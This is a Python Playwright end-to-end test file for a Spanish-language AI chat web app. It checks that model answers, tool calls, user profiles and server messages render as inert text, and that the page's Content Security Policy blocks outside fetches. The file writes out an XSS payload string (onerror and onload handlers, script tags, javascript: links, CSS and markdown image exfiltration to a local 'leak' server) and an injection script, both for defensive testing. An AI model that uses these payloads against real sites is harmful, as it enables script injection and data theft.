"""Markup in everything that others wrote: the page shows it as text, runs none of it, fetches nothing.

`pwned` is set by whatever runs; the stand-in counts whoever asks it for a picture, a style or a page.
"""

import json
import urllib.request
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, expect

from tests.e2e.conftest import database_in
from tests.support.answers import Answer, Text, ToolCalls
from tests.support.azure_standin import DEPLOYMENT, KEY, AzureStandin
from tests.support.browser import ANSWER_LIMIT_MS, HandshakeInfo, ServerProcess, visiting
from tests.support.http_wire import Exchange, Received, WireServer

pytestmark = [pytest.mark.e2e, pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

ATTACK = (
    '"><img src="{leak}/img" onerror="window.pwned=1"><svg onload="window.pwned=1"></svg>'
    "<script>window.pwned=1</script><iframe src='javascript:parent.pwned=1'></iframe>"
    '<link rel="stylesheet" href="{leak}/css"><style>*{{background:url({leak}/style)}}</style>'
    "[ver](javascript:window.pwned=1) ![foto]({leak}/md?q=secreto) <{leak}/auto> "
    "[x]: javascript:window.pwned=1 &lt;b&gt; javascript:window.pwned=1 "
    '<a href="javascript:window.pwned=1" style="position:fixed" onmouseover="window.pwned=1">gratis</a>'
)
MADE = "img[onerror], svg[onload], iframe, script:not([src]), style, [style*=position], a[href^='javascript']"
"""What the page has of its own is nothing of this."""


@dataclass
class Site:
    """A server, the model behind it, and a place that nobody is to ask for anything."""

    server: ServerProcess
    model: AzureStandin
    leak: WireServer
    asked: list[str]

    @property
    def attack(self) -> str:
        return ATTACK.format(leak=f"http://127.0.0.1:{self.leak.port}")

    @property
    def answered(self) -> str:
        """The attack as an answer shows it: its picture is a named link, an address has no angle brackets."""
        leak = f"http://127.0.0.1:{self.leak.port}"
        named = f"Imagen: foto (127.0.0.1:{self.leak.port})"
        return self.attack.replace(f"![foto]({leak}/md?q=secreto)", named).replace(
            f"<{leak}/auto>", f"{leak}/auto"
        )

    @property
    def linked(self) -> list[str]:
        """The addresses in an answer that one can go to."""
        leak = f"http://127.0.0.1:{self.leak.port}"
        return [f"{leak}/img", f"{leak}/css", f"{leak}/style)}}", f"{leak}/md?q=secreto", f"{leak}/auto"]

    async def is_harmless(self, visitor: HandshakeInfo) -> None:
        """Nothing ran, nothing was made of the markup, nothing left."""
        assert await visitor.run("() => window.pwned === undefined")
        await expect(visitor.page.locator(MADE)).to_have_count(0)
        assert self.asked == []


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    asked: list[str] = []

    async def answers(exchange: Exchange) -> None:
        asked.append(exchange.request.path)
        await exchange.whole(200, b"", {"content-type": "image/png"})

    async with AzureStandin() as model, WireServer(answers) as leak:
        server = ServerProcess(
            DATABASE_URL=database_in(tmp_path_factory.mktemp("attacks")),
            AZURE_OPENAI_ENDPOINT=model.url,
            AZURE_OPENAI_API_KEY=KEY,
            AZURE_OPENAI_DEPLOYMENT_NAME=DEPLOYMENT,
            LLM_PROVIDER="azure",
        )
        server.start()
        try:
            yield Site(server, model, leak, asked)
        finally:
            server.kill()


async def test_f11_answer_is_text_now_and_when_it_comes_again(chrome: Browser, site: Site) -> None:
    site.model.reply = lambda request: Text(site.attack)
    async with visiting(chrome, site.server.url) as visitor:

        async def is_answered() -> None:
            await expect(visitor.answers).to_have_text(site.answered, timeout=ANSWER_LIMIT_MS)
            links = visitor.log.locator("a")
            assert (
                await links.evaluate_all("links => links.map(link => link.getAttribute('href'))")
                == site.linked
            )
            await site.is_harmless(visitor)

        await visitor.says("hola")
        await is_answered()
        await visitor.page.reload()
        await visitor.is_told("En línea")
        await is_answered()


async def test_f11_tools_arguments_results_and_names_are_text(chrome: Browser, site: Site) -> None:
    def reply(request: Received) -> Answer:
        if request.messages[-1]["role"] == "user":
            return ToolCalls(
                ("text_analysis", {"text": site.attack}),
                ("calculate", {"expression": site.attack}),
                ("<img src=x onerror=pwned=1>", {"url": site.attack}),
            )
        return Text(request.last_text)

    site.model.reply = reply
    async with visiting(chrome, site.server.url) as visitor:
        await visitor.says("usa herramientas")
        await visitor.reads(visitor.answers, "status")
        await expect(visitor.tools).to_have_count(3)
        for card in await visitor.tools.all():
            for summary in await card.locator("summary").all():
                await summary.click()
        await site.is_harmless(visitor)


async def test_f11_title_user_and_profile_are_text(chrome: Browser, site: Site) -> None:
    site.model.reply = lambda request: Text("Vale.")
    user = "<img src=x onerror=window.pwned=1>"
    body = {"name": user, "notes": [site.attack[:300]], "preferences": {user: site.attack[:200]}}
    put(site, "eva", body)
    async with visiting(chrome, site.server.url) as visitor:
        for name in ("eva", user):
            await visitor.run("(user) => localStorage.setItem('voice-agent.user', user)", name)
            await visitor.page.reload()
            await visitor.is_told("En línea")
            await visitor.says(f"{user} {site.attack}")
            await visitor.reads(visitor.answers, "Vale.")
            talks = visitor.page.get_by_role("navigation", name="Conversaciones")
            await visitor.reads(talks.get_by_role("listitem"), "onerror")
            await talks.get_by_role("button", name="Tu perfil").click()
            if name == "eva":
                profile = visitor.page.get_by_role("complementary", name="Tu perfil")
                await visitor.reads(profile, "onerror")
            await site.is_harmless(visitor)


async def test_f11_whatever_a_server_says_is_text(chrome: Browser, site: Site) -> None:
    """Errors, transcripts, states and approvals, as a server would send them that is no longer ours.

    Words that the page does not know break nothing of it either; a newer server has some.
    """
    attack = site.attack
    messages: list[dict[str, Any]] = [
        {"type": "turn_started", "turn_id": attack, "source": "agent"},
        {"type": "response_chunk", "turn_id": attack, "content": attack},
        {
            "type": "tool_started",
            "turn_id": attack,
            "call_id": attack,
            "name": attack,
            "arguments": {attack: attack},
        },
        {"type": "tool_progress", "call_id": attack, "name": attack, "elapsed_s": 1, "message": attack},
        {
            "type": "tool_finished",
            "call_id": attack,
            "name": attack,
            "status": attack,
            "elapsed_s": 1,
            "error": attack,
            "reason": attack,
        },
        {"type": "state", "state": attack},
        {
            "type": "approval_requested",
            "call_id": "c2",
            "name": attack,
            "arguments": {attack: attack},
            "expires_in_s": 60,
        },
        {
            "type": "transcript",
            "utterance_id": attack,
            "content": attack,
            "final": True,
            "language": attack,
            "emotion": {"label": attack, "confidence": 1},
        },
        {"type": "notice", "content": attack},
        {"type": "system", "content": attack},
        {"type": "error", "code": attack, "content": attack, "retryable": False},
        {"type": "response_complete", "turn_id": attack, "content": attack, "finish_reason": attack},
        {"type": "turn_started", "turn_id": "t9", "source": attack},
        {"type": "error", "code": attack, "content": attack, "retryable": False, "turn_id": "t9"},
    ]
    opened: list[Any] = []

    def take(route: Any) -> None:
        route.connect_to_server()
        opened.append(route)

    async with visiting(chrome, site.server.url, forgiven=("Failed to load resource",)) as visitor:
        await visitor.page.route_web_socket("**/ws", take)
        await visitor.page.reload()
        await visitor.is_told("En línea")
        for message in messages:
            opened[-1].send(json.dumps(message))
        await expect(visitor.answers).to_have_text(site.answered, timeout=ANSWER_LIMIT_MS)
        await expect(visitor.texts.locator(".message-body")).to_have_text(attack)
        await expect(visitor.log.locator(".notice", has_text=attack)).to_be_visible()
        await expect(visitor.log.locator(".inline-error")).to_have_text(attack)
        await visitor.reads(visitor.alert, attack)
        await visitor.reads(visitor.tools, "sin confirmar")
        await visitor.is_told("En línea")
        await site.is_harmless(visitor)


async def test_f12_policy_stops_what_markup_would_have_fetched(chrome: Browser, site: Site) -> None:
    """Even where markup were made of an answer: nothing of others, and no script or style inside the page."""
    script = """(leak) => {
        document.body.insertAdjacentHTML("beforeend",
            `<img src="${leak}/img" onerror="window.pwned=1"><link rel="stylesheet" href="${leak}/css">
             <iframe src="${leak}/frame"></iframe><video src="${leak}/video" autoplay></video>
             <div style="background:url(${leak}/style)">x</div><object data="${leak}/object"></object>
             <form action="${leak}/form"><button></button></form>`);
        for (const text of ["window.pwned=1", ""]) {
            const made = document.createElement("script");
            if (text) made.textContent = text; else made.src = `${leak}/script`;
            document.body.append(made);
        }
        document.querySelector("form[action^=http]").submit();
        return fetch(`${leak}/fetch`).then(() => "fetched", () => "stopped");
    }"""
    forgiven = ("Content Security Policy", "Failed to load resource", "violates the following", "Fetch API")
    async with visiting(chrome, site.server.url, forgiven=forgiven) as visitor:
        assert await visitor.run(script, f"http://127.0.0.1:{site.leak.port}") == "stopped"

        assert await visitor.run("() => window.pwned === undefined")
        assert site.asked == []
        assert len(visitor.complaints) >= 6


def put(site: Site, user: str, profile: dict[str, Any]) -> None:
    request = urllib.request.Request(
        f"{site.server.url}/users/{user}/profile",
        method="PUT",
        data=json.dumps(profile).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=5) as response:
        assert response.status == 200
